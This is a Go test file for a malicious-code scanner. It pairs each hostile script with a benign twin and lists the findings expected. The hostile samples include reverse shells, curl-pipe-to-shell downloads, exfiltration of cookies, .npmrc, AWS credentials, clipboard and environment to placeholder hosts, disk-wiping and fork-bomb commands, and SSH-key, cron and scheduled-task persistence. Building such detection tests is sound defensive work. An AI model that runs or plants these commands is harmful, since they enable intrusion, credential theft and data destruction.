package codescan

import (
	"testing"

	"github.com/lore-kb/lore/core"
)

// moreTwins cover the rules the flow twins leave out; each malicious
// script has a benign twin that does the ordinary thing with the same
// tool.
var moreTwins = []twin{
	{name: "page script posts the cookies / posts a form's fields", file: "assets/page.html",
		bad:  "<html><body>\n<script>\nfetch('https://c.example/c', {method: 'POST', body: document.cookie});\n</script>\n</body></html>\n",
		good: "<html><body>\n<script src=\"https://cdn.example/chart.js\"></script>\n<script>\nconst f = document.querySelector('form');\nfetch('/api/save', {method: 'POST', body: new FormData(f)});\n</script>\n<script type=\"application/json\">{\"cmd\": \"curl https://x.example/i.sh | sh\"}</script>\n</body></html>\n",
		cat:  core.ExternalResources, sev: core.Critical, source: "document.cookie", sink: "fetch", srcLine: 3, sinkLine: 3},
	{name: "node request body from a credential file / from the user's input", file: "s.js",
		bad:  "const fs = require('fs'), os = require('os'), https = require('https');\nconst data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({hostname: 'x.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
		good: "const fs = require('fs'), https = require('https');\nconst data = fs.readFileSync(process.argv[2], 'utf8');\nconst req = https.request({hostname: 'api.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
		cat:  core.ExternalResources, sev: core.Critical, source: ".npmrc", sink: "req.write", srcLine: 2, sinkLine: 4},
	{name: "nc -e / nc -z", file: "a.sh", bad: "nc -e /bin/sh 10.0.0.1 4444\n", good: "nc -z db.local 5432\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "nc -e", sinkLine: 1},
	{name: "socat exec / socat forward", file: "a.sh", bad: "socat TCP:10.0.0.1:4444 EXEC:/bin/bash\n", good: "socat TCP-LISTEN:8080,fork TCP:localhost:80\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "socat", sinkLine: 1},
	{name: "mkfifo shell piped to nc / nc alone", file: "a.sh", bad: "rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f\n",
		good: "echo ping | nc -q1 localhost 7\n", cat: core.EmbeddedCode, sev: core.Critical, source: "network", sink: "shell", sinkLine: 2},
	{name: "mkfs / mkdir", file: "a.sh", bad: "mkfs.ext4 /dev/sda1\n", good: "mkdir -p out\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "mkfs", sinkLine: 1},
	{name: "dd onto a disk / dd into an image", file: "a.sh", bad: "dd if=/dev/zero of=/dev/sda bs=1M\n", good: "dd if=/dev/zero of=disk.img bs=1M count=10\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "/dev/sda", sinkLine: 1},
	{name: "find / -delete / find . -delete", file: "a.sh", bad: "find / -type f -delete\n", good: "find . -name '*.tmp' -delete\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "find -delete", sinkLine: 1},
	{name: "dd without count into a file / with count", file: "a.sh", bad: "dd if=/dev/zero of=big.bin bs=1M\n", good: "dd if=/dev/urandom of=key.bin bs=32 count=1\n",
		cat: core.EmbeddedCode, sev: core.Warning, sink: "dd", sinkLine: 1},
	{name: "while loop spawning itself / polling loop", file: "a.sh", bad: "while true; do\n  bash \"$0\" &\ndone\n", good: "while true; do\n  curl -s localhost:8080/health && break\n  sleep 1\ndone\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "endless loop", sinkLine: 1},
	{name: "download to a file and run it / and read it", file: "a.sh", bad: "curl -fsSL https://x.example/i.sh -o /tmp/i.sh\nsh /tmp/i.sh\n",
		good: "curl -fsSL https://x.example/data.csv -o /tmp/d.csv\nwc -l /tmp/d.csv\n", cat: core.ExternalResources, sev: core.Critical, source: "curl", sink: "sh", srcLine: 1, sinkLine: 2},
	{name: "bash <(curl) / diff <(sort)", file: "a.sh", bad: "bash <(curl -s https://x.example/i.sh)\n", good: "diff <(sort a.txt) <(sort b.txt)\n",
		cat: core.ExternalResources, sev: core.Critical, source: "curl", sink: "bash", sinkLine: 1},
	{name: "eval of an argument / eval of ssh-agent", file: "a.sh", bad: "eval \"$1\"\n", good: "eval \"$(ssh-agent -s)\"\n",
		cat: core.EmbeddedCode, sev: core.Warning, source: "$1", sink: "eval", sinkLine: 1},
	{name: "DNS exfiltration / DNS lookup", file: "a.sh", bad: "d=$(cat ~/.aws/credentials | base64 | head -c 60)\nnslookup \"$d.x.example\"\n", good: "nslookup example.org\n",
		cat: core.ExternalResources, sev: core.Critical, source: "AWS", sink: "nslookup", srcLine: 1, sinkLine: 2},
	{name: "encoded PowerShell / PowerShell file", file: "a.sh", bad: "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA\n", good: "pwsh -NoProfile -File ./build.ps1\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "-EncodedCommand", sinkLine: 1},
	{name: "authorized_keys append / known_hosts", file: "a.sh", bad: "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys\n", good: "ssh-keyscan github.com >> ./known_hosts\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "authorized_keys", sinkLine: 1},
	{name: "launch agent / plist in the work folder", file: "a.sh", bad: "cp agent.plist ~/Library/LaunchAgents/com.x.agent.plist\n", good: "cp agent.plist ./out/agent.plist\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "LaunchAgents", sinkLine: 1},
	{name: "python getattr of builtins / getattr of an object", file: "a.py", bad: "f = getattr(__builtins__, 'ex' + 'ec')\nf(src)\n", good: "v = getattr(config, 'name', None)\n",
		cat: core.EmbeddedCode, sev: core.Warning, sink: "getattr", sinkLine: 1},
	{name: "python growing list forever / bounded", file: "a.py", bad: "buf = []\nwhile True:\n    buf.append('x' * 10**6)\n", good: "buf = []\nwhile True:\n    buf.append(read())\n    if len(buf) > 10:\n        break\n",
		cat: core.EmbeddedCode, sev: core.Warning, sink: "allocation", sinkLine: 3},
	{name: "python crontab / reads crontab", file: "a.py", bad: "from crontab import CronTab\ncron = CronTab(user=True)\n", good: "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "CronTab", sinkLine: 2},
	{name: "python os.system curl pipe sh / os.system literal ls", file: "a.py", bad: "import os\nos.system('curl -s https://x.example/a | sh')\n", good: "import os\nos.system('ls -la')\n",
		cat: core.ExternalResources, sev: core.Critical, source: "curl", sink: "sh", sinkLine: 2},
	{name: "python clipboard sent / clipboard printed", file: "a.py", bad: "import pyperclip, requests\nclip = pyperclip.paste()\nrequests.post('https://x.example', data=clip)\n",
		good: "import pyperclip\nclip = pyperclip.paste()\nprint(clip.upper())\n", cat: core.ExternalResources, sev: core.Critical, source: "clipboard", sink: "requests.post", srcLine: 2, sinkLine: 3},
	{name: "python browser cookies read alone / a cookie jar of its own", file: "a.py",
		bad: "import sqlite3\ndb = sqlite3.connect('/home/u/.config/google-chrome/Default/Cookies')\n", good: "import http.cookiejar\njar = http.cookiejar.CookieJar()\n",
		cat: core.PathTraversal, sev: core.Warning, source: "browser", sink: "read", sinkLine: 2},
	{name: "javascript String.fromCharCode eval / fromCharCode display", file: "a.js",
		bad: "eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,32))\n", good: "console.log(String.fromCharCode(72, 105))\n",
		cat: core.EmbeddedCode, sev: core.Critical, source: "fromCharCode", sink: "eval", sinkLine: 1},
	{name: "javascript packed / plain function", file: "a.js", bad: "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n",
		good: "(function(a, b) { return a + b })(1, 2)\n", cat: core.EmbeddedCode, sev: core.Warning, sink: "eval(function(p,a,c,k,e", sinkLine: 1},
	{name: "javascript rmSync home / rmSync dist", file: "a.js", bad: "const fs = require('fs'), os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n",
		good: "const fs = require('fs');\nfs.rmSync('dist', { recursive: true, force: true });\n", cat: core.EmbeddedCode, sev: core.Critical, sink: "rmSync", sinkLine: 2},
	{name: "javascript spawn loop / bounded", file: "a.js", bad: "const cp = require('child_process');\nwhile (true) { cp.fork(__filename); }\n",
		good: "const cp = require('child_process');\nfor (let i = 0; i < 4; i++) { cp.fork('worker.js'); }\n", cat: core.EmbeddedCode, sev: core.Critical, sink: "endless loop", sinkLine: 2},
	{name: "javascript reverse shell / socket client", file: "a.js",
		bad:  "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
		good: "const net = require('net');\nconst c = net.connect(6379, 'localhost', () => { c.write('PING\\r\\n'); });\n",
		cat:  core.EmbeddedCode, sev: core.Critical, source: "socket", sink: "shell", sinkLine: 2},
	{name: "javascript SQL template / placeholders", file: "a.ts", bad: "const id = req.query.id;\ndb.query(`SELECT * FROM users WHERE id = ${id}`);\n",
		good: "const id = req.query.id;\ndb.query('SELECT * FROM users WHERE id = $1', [id]);\n", cat: core.EmbeddedCode, sev: core.Warning, sink: "db.query", sinkLine: 2},
	{name: "powershell reverse shell / TCP check", file: "a.ps1",
		bad:  "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444)\n$s = $c.GetStream()\n$d = (New-Object Text.ASCIIEncoding).GetString($b)\n$o = (iex $d 2>&1 | Out-String)\n",
		good: "Test-NetConnection -ComputerName db.local -Port 5432\n", cat: core.EmbeddedCode, sev: core.Critical, source: "TcpClient", sink: "Invoke-Expression", srcLine: 1, sinkLine: 4},
	{name: "powershell wipes C: / removes build", file: "a.ps1", bad: "Remove-Item -Recurse -Force C:\\\n", good: "Remove-Item -Recurse -Force .\\build\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "remove-item", sinkLine: 1},
	{name: "powershell scheduled task / lists tasks", file: "a.ps1", bad: "Register-ScheduledTask -TaskName x -Action $a -Trigger $t\n", good: "Get-ScheduledTask | Select-Object TaskName\n",
		cat: core.EmbeddedCode, sev: core.Critical, sink: "register-scheduledtask", sinkLine: 1},
	{name: "powershell base64 iex / base64 to file", file: "a.ps1",
		bad:  "$p = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $p\n",
		good: "$p = [Convert]::FromBase64String($b)\n[IO.File]::WriteAllBytes('out.png', $p)\n", cat: core.EmbeddedCode, sev: core.Critical, source: "FromBase64String", sink: "invoke-expression", srcLine: 1, sinkLine: 2},
	{name: "docker compose command downloads and runs / runs server", file: "compose.yaml",
		bad: "services:\n  app:\n    command: [\"sh\", \"-c\", \"curl -s https://x.example/a | sh\"]\n", good: "services:\n  app:\n    command: [\"node\", \"server.js\"]\n",
		cat: core.ExternalResources, sev: core.Critical, source: "curl", sink: "sh", sinkLine: 3},
	{name: "gitlab script list exfil / test", file: ".gitlab-ci.yml",
		bad: "test:\n  script:\n    - echo start\n    - env | curl -d @- https://x.example/e\n", good: "test:\n  script:\n    - echo start\n    - go test ./...\n",
		cat: core.ExternalResources, sev: core.Critical, source: "environment", sink: "curl", sinkLine: 4},
}

func TestMoreTwins(t *testing.T) {
	saved := twins
	defer func() { twins = saved }()
	twins = moreTwins
	TestTwins(t)
}
